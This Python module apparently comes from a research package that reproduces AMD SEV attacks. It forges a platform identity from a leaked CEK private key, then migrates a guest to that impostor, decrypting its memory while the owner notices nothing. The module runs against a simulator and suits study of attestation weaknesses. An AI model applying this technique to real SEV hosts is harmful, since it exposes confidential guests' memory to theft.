"""A02: a platform that is none, made in software from the leaked CEK of one chip.

AMD's signature says of a CEK that it is in a genuine chip. Whoever has its private number signs a PEK of his own with
it, and with that a PDH whose private number he has too. To everybody who checks the chain this is a genuine platform. A
guest is sent to it; its memory arrives encrypted under a TEK that the impostor unwraps.

Source: incidents A02 (arXiv 1908.11680); sev-launch 9.2 and 10.5.
"""

from __future__ import annotations

import secrets

from ..formats.secret import SecretHeader
from ..formats.sev_certs import CEK, OCA, PDH, PEK
from ..secret import apply_keystream
from ..session import open_session
from ..simulator.identity import Identity
from ..simulator.psp import SECRET_LIMIT
from ..simulator.status import FirmwareError

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from ..chain import Chain
    from ..formats.sev_certs import SessionBlob, SevCertificate
    from ..keys import Secret
    from ..session import OpenedSession
    from ..simulator.platform import Platform


class Impostor:
    """Certificates of a platform that is nowhere, and the private number of its PDH.

    *cek* is the private number of a chip's CEK (48 bytes, big-endian), *certificate* the CEK that AMD signed. *random*
    returns random bytes; *api* is the version of the SEV API that the certificates will name.
    """

    def __init__(
        self,
        cek: Secret,
        certificate: SevCertificate,
        *,
        random: Callable[[int], bytes] = secrets.token_bytes,
        api: tuple[int, int] = (1, 55),
    ) -> None:
        self._identity = Identity(random, api, (cek, certificate))

    @property
    def chain(self) -> Chain:
        """All six certificates, as a platform exports them."""
        return self._identity.chain

    @property
    def private(self) -> Secret:
        """The private number of the PDH (48 bytes, big-endian), which no genuine platform tells."""
        return self._identity.keys[PDH]

    def open(self, blob: SessionBlob, certificate: SevCertificate, policy: int | None = None) -> OpenedSession:
        """Open a session that was packed for this platform, by an owner or by a sender with this *certificate*."""
        return open_session(blob, certificate, self.private, policy)


class Haul:
    """What an impostor got of a guest.

    ``session`` is the sender's session, opened; ``parts`` are pieces of the guest's memory in clear, by address;
    ``caught`` is the refusal of the sending platform, None when there was none.
    """

    def __init__(self) -> None:
        self.session: OpenedSession | None = None
        self.parts: dict[int, bytes] = {}
        self.caught: FirmwareError | None = None

    def __repr__(self) -> str:
        if self.caught is not None:
            return f"REFUSED: {self.caught}"
        size = sum(map(len, self.parts.values()))
        return f"{size} bytes of the guest's memory in clear, in {len(self.parts)} piece{'s' * (len(self.parts) != 1)}"


def migrate(platform: Platform, handle: int, impostor: Impostor, ranges: Iterable[tuple[int, int]]) -> Haul:
    """Play the host that sends a guest to an impostor: SEND_START, SEND_UPDATE_DATA for every range, SEND_CANCEL.

    *ranges* are addresses and sizes in bytes. With SEND_CANCEL the guest goes on running, and its owner sees nothing.
    Never raises on a refusal.
    """
    haul, chain = Haul(), impostor.chain
    rest = b"".join(chain[usage].to_bytes() for usage in (PEK, OCA, CEK))
    pdh = chain[PDH].to_bytes()
    try:
        blob = platform.send_start(handle, pdh, rest, chain.to_bytes()[len(pdh) + len(rest) :])
        haul.session = impostor.open(
            blob, platform.pdh_cert_export()[PDH], int(platform.guest_status(handle)["policy"])
        )
        for address, size in ranges:
            haul.parts[address] = b"".join(_pieces(platform, handle, haul.session, address, size))
        platform.send_cancel(handle)
    except FirmwareError as refusal:
        haul.caught = refusal
    return haul


def _pieces(platform: Platform, handle: int, session: OpenedSession, address: int, size: int) -> Iterable[bytes]:
    """Have a range sent, as much at a time as the firmware takes, and decrypt it."""
    for start in range(address, address + size, SECRET_LIMIT):
        length = min(SECRET_LIMIT, address + size - start)
        header, payload = platform.send_update_data(handle, start, length)
        assert session.tek is not None, "the session was packed for this PDH"
        yield apply_keystream(session.tek, SecretHeader.from_bytes(header).iv, payload)
